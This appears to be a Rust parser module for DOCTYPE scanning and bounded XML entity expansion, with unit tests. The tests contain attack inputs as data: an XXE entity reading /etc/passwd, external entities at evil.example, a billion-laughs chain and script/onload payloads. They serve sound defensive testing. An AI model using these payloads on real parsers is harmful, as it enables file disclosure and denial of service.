//! DOCTYPE scanning and bounded entity expansion.
//!
//! quick-xml hands us the DOCTYPE as an opaque block of text and leaves
//! entity references in text and attribute values untouched. This module
//! reads the internal subset, records internal general entities, refuses
//! anything that would require fetching or injecting content, and expands
//! references under a byte budget that is checked before every append.

use crate::error::ParseError;
use std::collections::HashMap;
use tracing::{debug, trace};

/// Maximum nesting of entity references inside entity replacement text.
const MAX_ENTITY_NESTING: usize = 16;

/// Internal general entities declared in a document's DOCTYPE.
#[derive(Debug, Default)]
pub(crate) struct EntityTable {
    entities: HashMap<String, String>,
}

impl EntityTable {
    /// Creates a table with no declared entities.
    pub(crate) fn empty() -> Self {
        Self::default()
    }

    /// Builds the table from the content of a `<!DOCTYPE ...>` declaration.
    pub(crate) fn from_doctype(content: &str) -> Result<Self, ParseError> {
        let content = content.trim_start();
        let name_end = content
            .find(|c: char| c.is_whitespace() || c == '[')
            .unwrap_or(content.len());
        if name_end == 0 {
            return Err(ParseError::malformed("DOCTYPE without a root element name"));
        }

        let rest = &content[name_end..];
        let (external_id, subset) = match find_unquoted(rest, b'[') {
            Some(i) => (&rest[..i], Some(&rest[i + 1..])),
            None => (rest, None),
        };

        let external_id = external_id.trim();
        if !external_id.is_empty() {
            // The external subset is never fetched, so it cannot declare anything.
            debug!(identifier = external_id, "ignoring external DTD subset");
        }

        match subset {
            Some(subset) => {
                let end = subset
                    .rfind(']')
                    .ok_or_else(|| ParseError::malformed("unterminated DTD internal subset"))?;
                Self::from_internal_subset(&subset[..end])
            }
            None => Ok(Self::empty()),
        }
    }

    fn from_internal_subset(subset: &str) -> Result<Self, ParseError> {
        let mut table = Self::empty();
        let mut rest = subset;

        loop {
            rest = rest.trim_start();
            if rest.is_empty() {
                break;
            }

            if let Some(body) = rest.strip_prefix("<!--") {
                let end = body
                    .find("-->")
                    .ok_or_else(|| ParseError::malformed("unterminated comment in DTD"))?;
                rest = &body[end + 3..];
                continue;
            }

            if let Some(body) = rest.strip_prefix("<?") {
                let end = body.find("?>").ok_or_else(|| {
                    ParseError::malformed("unterminated processing instruction in DTD")
                })?;
                rest = &body[end + 2..];
                continue;
            }

            if rest.starts_with('%') {
                return Err(ParseError::malformed(
                    "parameter entity references are not supported",
                ));
            }

            if rest.starts_with("<!") {
                let end = find_unquoted(rest, b'>')
                    .ok_or_else(|| ParseError::malformed("unterminated markup declaration"))?;
                let decl = &rest[2..end];
                rest = &rest[end + 1..];

                let keyword_end = decl
                    .find(|c: char| c.is_whitespace())
                    .unwrap_or(decl.len());
                let (keyword, body) = decl.split_at(keyword_end);
                match keyword {
                    "ENTITY" => table.declare(body)?,
                    "ATTLIST" => {
                        if body.contains('"') || body.contains('\'') {
                            return Err(ParseError::malformed(
                                "attribute defaults declared in the DTD are not supported",
                            ));
                        }
                    }
                    "ELEMENT" | "NOTATION" => {}
                    other => {
                        return Err(ParseError::Malformed(format!(
                            "unknown markup declaration '<!{}'",
                            other
                        )));
                    }
                }
                continue;
            }

            return Err(ParseError::malformed(
                "unexpected content in DTD internal subset",
            ));
        }

        Ok(table)
    }

    /// Records one `<!ENTITY ...>` declaration body.
    fn declare(&mut self, body: &str) -> Result<(), ParseError> {
        let body = body.trim_start();
        let (parameter, body) = match body.strip_prefix('%') {
            Some(b) => (true, b.trim_start()),
            None => (false, body),
        };

        let name_end = body
            .find(char::is_whitespace)
            .ok_or_else(|| ParseError::malformed("incomplete entity declaration"))?;
        let name = &body[..name_end];
        if !is_entity_name(name) {
            return Err(ParseError::Malformed(format!("invalid entity name '{}'", name)));
        }

        let definition = body[name_end..].trim();
        if starts_with_keyword(definition, "SYSTEM") || starts_with_keyword(definition, "PUBLIC") {
            let shown = if parameter {
                format!("%{}", name)
            } else {
                name.to_string()
            };
            return Err(ParseError::ExternalEntityDisallowed(shown));
        }

        let (literal, remainder) = split_quoted(definition)?;
        if !remainder.trim().is_empty() {
            return Err(ParseError::Malformed(format!(
                "unexpected content after the value of entity '{}'",
                name
            )));
        }
        if literal.contains('<') {
            return Err(ParseError::Malformed(format!(
                "entity '{}' contains markup",
                name
            )));
        }
        if literal.contains('%') {
            return Err(ParseError::malformed(
                "parameter entity references are not supported",
            ));
        }

        if parameter {
            trace!(entity = name, "ignoring parameter entity");
        } else {
            // The first declaration of an entity is binding.
            self.entities
                .entry(name.to_string())
                .or_insert_with(|| literal.to_string());
        }
        Ok(())
    }

    /// Returns the number of declared general entities.
    pub(crate) fn len(&self) -> usize {
        self.entities.len()
    }
}

/// Expands entity and character references under a byte budget.
///
/// Only bytes produced by document-declared entities are charged; text
/// written literally in the document and predefined or character references
/// outside entity replacement text are free.
pub(crate) struct Expander<'a> {
    entities: &'a EntityTable,
    limit: usize,
    used: usize,
}

impl<'a> Expander<'a> {
    #[cfg(test)]
    pub(crate) fn new(entities: &'a EntityTable, limit: usize) -> Self {
        Self::resume(entities, limit, 0)
    }

    /// Creates an expander that continues charging an existing budget.
    pub(crate) fn resume(entities: &'a EntityTable, limit: usize, used: usize) -> Self {
        Self {
            entities,
            limit,
            used,
        }
    }

    /// Total bytes charged to the expansion budget so far.
    pub(crate) fn used(&self) -> usize {
        self.used
    }

    /// Expands references in character data.
    pub(crate) fn expand_text(&mut self, raw: &str) -> Result<String, ParseError> {
        let mut out = String::with_capacity(raw.len());
        self.expand_into(raw, &mut out, &mut Vec::new(), false)?;
        Ok(out)
    }

    /// Expands references in an attribute value, normalizing literal whitespace.
    pub(crate) fn expand_attribute(&mut self, raw: &str) -> Result<String, ParseError> {
        let mut out = String::with_capacity(raw.len());
        self.expand_into(raw, &mut out, &mut Vec::new(), true)?;
        Ok(out)
    }

    fn expand_into(
        &mut self,
        raw: &str,
        out: &mut String,
        active: &mut Vec<&'a str>,
        normalize: bool,
    ) -> Result<(), ParseError> {
        let entities = self.entities;
        let mut rest = raw;

        while let Some(amp) = rest.find('&') {
            self.push_literal(out, &rest[..amp], active.len(), normalize)?;

            let after = &rest[amp + 1..];
            let semi = after
                .find(';')
                .ok_or_else(|| ParseError::malformed("unterminated entity reference"))?;
            let name = &after[..semi];
            rest = &after[semi + 1..];

            if let Some(number) = name.strip_prefix('#') {
                let c = parse_char_ref(number)?;
                let mut buf = [0u8; 4];
                self.push(out, c.encode_utf8(&mut buf), active.len())?;
            } else if let Some(replacement) = predefined_entity(name) {
                self.push(out, replacement, active.len())?;
            } else {
                let (key, value) = entities.entities.get_key_value(name).ok_or_else(|| {
                    ParseError::Malformed(format!("undefined entity '{}'", name))
                })?;
                if active.contains(&key.as_str()) {
                    return Err(ParseError::Malformed(format!(
                        "entity '{}' references itself",
                        name
                    )));
                }
                if active.len() >= MAX_ENTITY_NESTING {
                    return Err(ParseError::malformed("entity references nested too deeply"));
                }
                active.push(key.as_str());
                self.expand_into(value, out, active, normalize)?;
                active.pop();
            }
        }

        self.push_literal(out, rest, active.len(), normalize)
    }

    fn push_literal(
        &mut self,
        out: &mut String,
        text: &str,
        depth: usize,
        normalize: bool,
    ) -> Result<(), ParseError> {
        if !normalize || !text.contains(['\t', '\n', '\r']) {
            return self.push(out, text, depth);
        }

        let normalized = text.replace("\r\n", " ").replace(['\t', '\n', '\r'], " ");
        self.push(out, &normalized, depth)
    }

    fn push(&mut self, out: &mut String, text: &str, depth: usize) -> Result<(), ParseError> {
        if depth > 0 {
            self.used = self.used.saturating_add(text.len());
            if self.used > self.limit {
                return Err(ParseError::EntityExpansionLimitExceeded { limit: self.limit });
            }
        }
        out.push_str(text);
        Ok(())
    }
}

fn predefined_entity(name: &str) -> Option<&'static str> {
    match name {
        "lt" => Some("<"),
        "gt" => Some(">"),
        "amp" => Some("&"),
        "apos" => Some("'"),
        "quot" => Some("\""),
        _ => None,
    }
}

fn parse_char_ref(number: &str) -> Result<char, ParseError> {
    let code = match number.strip_prefix('x') {
        Some(hex) => u32::from_str_radix(hex, 16),
        None => number.parse::<u32>(),
    }
    .map_err(|_| ParseError::Malformed(format!("invalid character reference '&#{};'", number)))?;

    match char::from_u32(code) {
        Some(c) if is_xml_char(c) => Ok(c),
        _ => Err(ParseError::Malformed(format!(
            "character reference '&#{};' is not a legal XML character",
            number
        ))),
    }
}

fn is_xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..='\u{10FFFF}')
}

fn is_entity_name(name: &str) -> bool {
    !name.is_empty()
        && !name
            .chars()
            .any(|c| c.is_whitespace() || matches!(c, '&' | ';' | '%' | '<' | '>' | '"' | '\''))
}

fn starts_with_keyword(text: &str, keyword: &str) -> bool {
    match text.strip_prefix(keyword) {
        Some(rest) => {
            rest.is_empty() || rest.starts_with(|c: char| c.is_whitespace() || c == '"' || c == '\'')
        }
        None => false,
    }
}

/// Splits a leading quoted literal from `text`, returning (content, remainder).
fn split_quoted(text: &str) -> Result<(&str, &str), ParseError> {
    let quote = match text.chars().next() {
        Some(q @ ('"' | '\'')) => q,
        _ => return Err(ParseError::malformed("expected a quoted entity value")),
    };
    let body = &text[1..];
    let end = body
        .find(quote)
        .ok_or_else(|| ParseError::malformed("unterminated entity value"))?;
    Ok((&body[..end], &body[end + 1..]))
}

/// Finds the first `needle` byte that is not inside a quoted literal.
fn find_unquoted(text: &str, needle: u8) -> Option<usize> {
    let mut quote: Option<u8> = None;
    for (i, b) in text.bytes().enumerate() {
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None if b == b'"' || b == b'\'' => quote = Some(b),
            None if b == needle => return Some(i),
            None => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_doctype_without_subset() {
        let table = EntityTable::from_doctype(" svg").unwrap();
        assert_eq!(table.len(), 0);
    }

    #[test]
    fn test_external_dtd_subset_is_ignored() {
        let doctype = r#" svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd""#;
        let table = EntityTable::from_doctype(doctype).unwrap();
        assert_eq!(table.len(), 0);
    }

    #[test]
    fn test_internal_entities() {
        let doctype = r##" svg [
            <!-- shared colors -->
            <!ENTITY red "#ff0000">
            <!ENTITY ns_svg 'http://www.w3.org/2000/svg'>
            <!ELEMENT svg ANY>
        ]"##;
        let table = EntityTable::from_doctype(doctype).unwrap();
        assert_eq!(table.len(), 2);

        let mut expander = Expander::new(&table, 1024);
        assert_eq!(expander.expand_text("fill: &red;").unwrap(), "fill: #ff0000");
        assert_eq!(expander.used(), 7);
    }

    #[test]
    fn test_first_declaration_wins() {
        let table =
            EntityTable::from_doctype(r#" svg [<!ENTITY a "first"><!ENTITY a "second">]"#).unwrap();
        let mut expander = Expander::new(&table, 1024);
        assert_eq!(expander.expand_text("&a;").unwrap(), "first");
    }

    #[test]
    fn test_external_entity_rejected_even_if_unused() {
        let doctype = r#" svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]"#;
        assert_eq!(
            EntityTable::from_doctype(doctype).unwrap_err(),
            ParseError::ExternalEntityDisallowed("xxe".to_string())
        );

        let doctype = r#" svg [<!ENTITY pub PUBLIC "-//X//EN" "http://evil.example/x">]"#;
        assert!(matches!(
            EntityTable::from_doctype(doctype),
            Err(ParseError::ExternalEntityDisallowed(_))
        ));
    }

    #[test]
    fn test_external_parameter_entity_rejected() {
        let doctype = r#" svg [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]"#;
        assert_eq!(
            EntityTable::from_doctype(doctype).unwrap_err(),
            ParseError::ExternalEntityDisallowed("%remote".to_string())
        );
    }

    #[test]
    fn test_parameter_entity_reference_rejected() {
        let doctype = r#" svg [<!ENTITY % inner "<!ENTITY x 'y'>"> %inner;]"#;
        assert!(matches!(
            EntityTable::from_doctype(doctype),
            Err(ParseError::Malformed(_))
        ));
    }

    #[test]
    fn test_entity_with_markup_rejected() {
        let doctype = r#" svg [<!ENTITY x "<script>alert(1)</script>">]"#;
        let err = EntityTable::from_doctype(doctype).unwrap_err();
        assert!(err.to_string().contains("contains markup"));
    }

    #[test]
    fn test_attlist_defaults_rejected() {
        let doctype = r#" svg [<!ATTLIST svg onload CDATA "alert(1)">]"#;
        assert!(matches!(
            EntityTable::from_doctype(doctype),
            Err(ParseError::Malformed(_))
        ));
        assert!(EntityTable::from_doctype(" svg [<!ATTLIST svg id ID #IMPLIED>]").is_ok());
    }

    #[test]
    fn test_billion_laughs_hits_budget() {
        let mut doctype = String::from(" svg [<!ENTITY lol0 \"lol\">");
        for i in 1..10 {
            doctype.push_str(&format!(
                "<!ENTITY lol{} \"{}\">",
                i,
                format!("&lol{};", i - 1).repeat(10)
            ));
        }
        doctype.push(']');

        let table = EntityTable::from_doctype(&doctype).unwrap();
        let limit = 10 * 1024;
        let mut expander = Expander::new(&table, limit);
        assert_eq!(
            expander.expand_text("&lol9;").unwrap_err(),
            ParseError::EntityExpansionLimitExceeded { limit }
        );
        // The check runs before each append, so usage never runs far past the limit.
        assert!(expander.used() <= limit + 3);
    }

    #[test]
    fn test_recursive_entity_rejected() {
        let table =
            EntityTable::from_doctype(r#" svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]"#).unwrap();
        let mut expander = Expander::new(&table, 1024);
        let err = expander.expand_text("&a;").unwrap_err();
        assert!(err.to_string().contains("references itself"));
    }

    #[test]
    fn test_undefined_entity_rejected() {
        let table = EntityTable::empty();
        let mut expander = Expander::new(&table, 1024);
        assert!(matches!(
            expander.expand_text("&nbsp;"),
            Err(ParseError::Malformed(_))
        ));
        assert!(matches!(
            expander.expand_text("AT&T"),
            Err(ParseError::Malformed(_))
        ));
    }

    #[test]
    fn test_character_references() {
        let table = EntityTable::empty();
        let mut expander = Expander::new(&table, 0);
        assert_eq!(
            expander.expand_text("&#106;ava&#x73;cript&lt;&amp;").unwrap(),
            "javascript<&"
        );
        assert_eq!(expander.used(), 0);
        assert!(expander.expand_text("&#0;").is_err());
        assert!(expander.expand_text("&#xZZ;").is_err());
    }

    #[test]
    fn test_attribute_whitespace_normalization() {
        let table = EntityTable::empty();
        let mut expander = Expander::new(&table, 0);
        assert_eq!(
            expander.expand_attribute("java\r\nscript:&#10;x").unwrap(),
            "java script:\nx"
        );
        assert_eq!(expander.expand_text("a\tb").unwrap(), "a\tb");
    }

    #[test]
    fn test_find_unquoted() {
        assert_eq!(find_unquoted(r#"a "[" ["#, b'['), Some(6));
        assert_eq!(find_unquoted(r#"'>'"#, b'>'), None);
    }
}
